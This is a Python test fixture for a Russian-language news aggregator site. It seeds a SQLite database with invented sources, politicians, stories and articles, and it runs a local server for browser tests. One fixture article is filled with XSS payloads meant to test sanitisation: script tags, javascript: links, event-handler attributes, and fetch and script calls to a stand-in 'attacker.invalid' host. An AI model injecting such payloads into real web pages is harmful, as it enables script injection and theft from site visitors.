"""Our own small fixture data for the web tests, written with plain SQLAlchemy Core inserts into the schema.

Texts here are written for these tests (not copied from any outlet). Times are relative to "now" so the
relative-date wording ("Сегодня", "Вчера") is exercised.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

from sqlalchemy import Engine, Table
from sqlalchemy.engine import Connection

from svodka.store.schema import article_entities, articles, entities, sources, stories
from svodka.store.search import reindex_all

if TYPE_CHECKING:
    from fastapi.testclient import TestClient

XSS_TITLE = 'Опасный <script>alert("title")</script> заголовок'
ATTACKER = "http://attacker.invalid"


@dataclass
class WebFixture:
    """Ids of the interesting rows."""

    main_article: int
    rewrite_article: int
    copy_article: int
    xss_article: int
    story: int
    other_story: int
    tag_slug: str
    source_slug: str
    broken_source_slug: str


def _now() -> datetime:
    return datetime.now(UTC).replace(tzinfo=None, microsecond=0)


def _insert(conn: Connection, table: Table, rows: list[dict[str, Any]]) -> None:
    # One statement per row: the rows set different optional columns.
    for row in rows:
        conn.execute(table.insert().values(**row))


def populate(engine: Engine) -> WebFixture:
    """Fill an empty (migrated) database with sources, entities, stories and articles, then index them."""
    now = _now()
    with engine.begin() as conn:
        _insert(conn, sources, [
            dict(id=1, slug="kaztag", name="КазТАГ", site_url="https://kaztag.example", kind="rss",
                 feed_url="https://kaztag.example/rss", active=True, poll_interval=3600, error_count=0,
                 consecutive_errors=0, created_at=now, last_polled_at=now - timedelta(minutes=5),
                 last_success_at=now - timedelta(minutes=5), last_status=200),
            dict(id=2, slug="gazeta-uz", name="Газета.uz", site_url="https://gazeta.example", kind="rss",
                 feed_url="https://gazeta.example/feed", active=True, poll_interval=3600, error_count=0,
                 consecutive_errors=0, created_at=now),
            dict(id=3, slug="broken-news", name="Сломанные новости", site_url="https://broken.example", kind="rss",
                 feed_url="https://broken.example/rss", active=True, poll_interval=3600, error_count=7,
                 consecutive_errors=3, last_error="HTTP 503 Service Unavailable", created_at=now,
                 last_polled_at=now - timedelta(hours=1), last_status=503),
        ])
        _insert(conn, entities, [
            dict(id=1, key="per:токаев", slug="tokaev", name="Касым-Жомарт Токаев", type="PER",
                 aliases=["Токаев", "Президент Казахстана"], created_at=now),
            dict(id=2, key="loc:казахстан", slug="kazakhstan", name="Казахстан", type="LOC", aliases=["РК"],
                 created_at=now),
            dict(id=3, key="per:мирзиёев", slug="mirziyoyev", name="Шавкат Мирзиёев", type="PER", aliases=[],
                 created_at=now),
            dict(id=4, key="org:нацбанк", slug="natsbank", name="Национальный банк Казахстана", type="ORG",
                 aliases=["Нацбанк"], created_at=now),
        ])
        _insert(conn, stories, [
            dict(id=1, title="Токаев и Мирзиёев обсудили торговлю", lead="Президенты встретились в Астане.",
                 category="politics", first_seen=now - timedelta(hours=3), last_seen=now - timedelta(hours=1),
                 article_count=3, source_count=2, score=9.5, breaking=True, updated_at=now - timedelta(hours=1),
                 tags=[{"slug": "tokaev", "name": "Касым-Жомарт Токаев", "type": "PER"}, "mirziyoyev"]),
            dict(id=2, title="Нацбанк сохранил базовую ставку", lead="Ставка осталась прежней.",
                 category="economy", first_seen=now - timedelta(days=1, hours=2),
                 last_seen=now - timedelta(days=1), article_count=1, source_count=1, score=4.0, breaking=False,
                 updated_at=now - timedelta(days=1), tags=["natsbank"]),
            dict(id=3, title="Курс тенге почти не изменился", lead="Биржевые торги прошли спокойно.",
                 category="economy", first_seen=now - timedelta(days=2), last_seen=now - timedelta(days=2),
                 article_count=0, source_count=0, score=1.0, breaking=False, updated_at=now - timedelta(days=2),
                 tags=[]),
        ])
        base = dict(fetched_at=now, updated_at=now, language="ru", site_tags=[], credits=[])
        _insert(conn, articles, [
            dict(base, id=1, source_id=1, url="https://kaztag.example/news/1", canonical_url="https://kaztag.example/news/1",
                 title="Токаев провёл переговоры с Мирзиёевым",
                 published="2026-01-01T10:00:00+05:00", published_at=now - timedelta(hours=2),
                 authors=["Анна Петрова"], lead="Президент Казахстана Касым-Жомарт Токаев встретился с коллегой",
                 blocks=[{"kind": "paragraph", "text": "Встреча прошла в Акорде."},
                         {"kind": "heading", "text": "Торговля и вода"},
                         {"kind": "paragraph",
                          "text": "Стороны договорились довести товарооборот до 10 млрд долларов."}],
                 text="Встреча прошла в Акорде.\nСтороны договорились довести товарооборот до 10 млрд долларов.",
                 image={"url": "https://kaztag.example/img/1.jpg", "caption": "Встреча в Акорде",
                        "credit": "Акорда"},
                 category="politics", story_id=1,
                 figures=[{"kind": "money", "text": "10 млрд долларов", "value": 1e10, "unit": "USD",
                          "sentence": "Стороны договорились довести товарооборот до 10 млрд долларов."}],
                 tags=["tokaev", "mirziyoyev"]),
            dict(base, id=2, source_id=2, url="https://gazeta.example/2", canonical_url="https://gazeta.example/2",
                 title="Мирзиёев прибыл в Астану", published_at=now - timedelta(hours=3), authors=[],
                 lead="Президент Узбекистана начал визит", blocks=[], text="Визит продлится два дня.",
                 origin={"name": "Podrobno.uz", "url": "https://podrobno.example/a"}, category="politics",
                 story_id=1),
            dict(base, id=3, source_id=3, url="https://broken.example/3", canonical_url="https://broken.example/3",
                 title="Токаев провёл переговоры с Мирзиёевым (копия)", published_at=now - timedelta(hours=1),
                 lead="Перепечатка новости о переговорах", text="Встреча прошла в Акорде.", category="politics",
                 story_id=1, duplicate_of=1),
            dict(base, id=4, source_id=1, url="https://kaztag.example/news/4", canonical_url="https://kaztag.example/news/4",
                 title="Нацбанк Казахстана сохранил ставку", published_at=now - timedelta(days=1),
                 lead="Базовая ставка осталась на уровне 16,5%", text="Решение принято на заседании.",
                 category="economy", story_id=2),
            dict(base, id=5, source_id=1, url="https://kaztag.example/news/5", canonical_url="https://kaztag.example/news/5",
                 title=XSS_TITLE, published_at=now - timedelta(days=400),
                 lead=f'<img src=x onerror="fetch(\'{ATTACKER}/lead\')"> Лид с подвохом',
                 blocks=[{"kind": "paragraph",
                          "text": f'<a href="javascript:alert(1)">ссылка</a> <script src="{ATTACKER}/x.js"></script>'},
                         {"kind": "html",
                          "text": f'<p onclick="alert(1)">Текст<style>body{{background:url({ATTACKER}/bg)}}</style>'
                                  f'<a href="javascript:alert(2)">ещё</a><img src="{ATTACKER}/img.png" '
                                  'onerror="alert(3)"></p>'},
                         {"kind": "paragraph", "text": "<style>" + "*{color:red}" * 2000 + "</style>"}],
                 text="", authors=['<b onmouseover="alert(4)">Автор</b>'],
                 image={"url": "javascript:alert('img')", "credit": '<svg onload="alert(5)">'},
                 category="society"),
        ])
        _insert(conn, article_entities, [
            dict(article_id=1, entity_id=1, salience=0.9, mentions=2, is_tag=True),
            dict(article_id=1, entity_id=3, salience=0.7, mentions=1, is_tag=True),
            dict(article_id=1, entity_id=2, salience=0.3, mentions=1, is_tag=False),
            dict(article_id=2, entity_id=3, salience=0.9, mentions=1, is_tag=True),
            dict(article_id=3, entity_id=1, salience=0.9, mentions=1, is_tag=True),
            dict(article_id=4, entity_id=4, salience=0.9, mentions=1, is_tag=True),
            dict(article_id=4, entity_id=2, salience=0.4, mentions=1, is_tag=False),
            dict(article_id=4, entity_id=1, salience=0.1, mentions=1, is_tag=False),
        ])
    reindex_all(engine)
    return WebFixture(main_article=1, rewrite_article=2, copy_article=3, xss_article=5, story=1, other_story=2,
                      tag_slug="tokaev", source_slug="kaztag", broken_source_slug="broken-news")


def make_site(tmp_path: Path, admin_token: str = "") -> tuple[TestClient, Engine, WebFixture]:
    """A migrated SQLite database in tmp_path with the fixture data, and a test client of the site over it."""
    from fastapi.testclient import TestClient

    from svodka.settings import Settings
    from svodka.store.db import ensure_schema, make_engine
    from svodka.web.app import create_app

    url = f"sqlite:///{tmp_path / 'site.db'}"
    engine = make_engine(url)
    ensure_schema(engine)
    fixture = populate(engine)
    app = create_app(Settings(database_url=url, admin_token=admin_token), engine)
    return TestClient(app), engine, fixture


@contextmanager
def serve_in_thread(app: Any) -> Iterator[str]:
    """Serve an ASGI app with uvicorn on a free loopback port for browser tests; yields its base URL."""
    import httpx
    import uvicorn

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = int(sock.getsockname()[1])
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    for _ in range(100):
        try:
            if httpx.get(base + "/healthz", timeout=1).status_code == 200:
                break
        except httpx.HTTPError:
            time.sleep(0.1)
    try:
        yield base
    finally:
        server.should_exit = True
        thread.join(timeout=10)
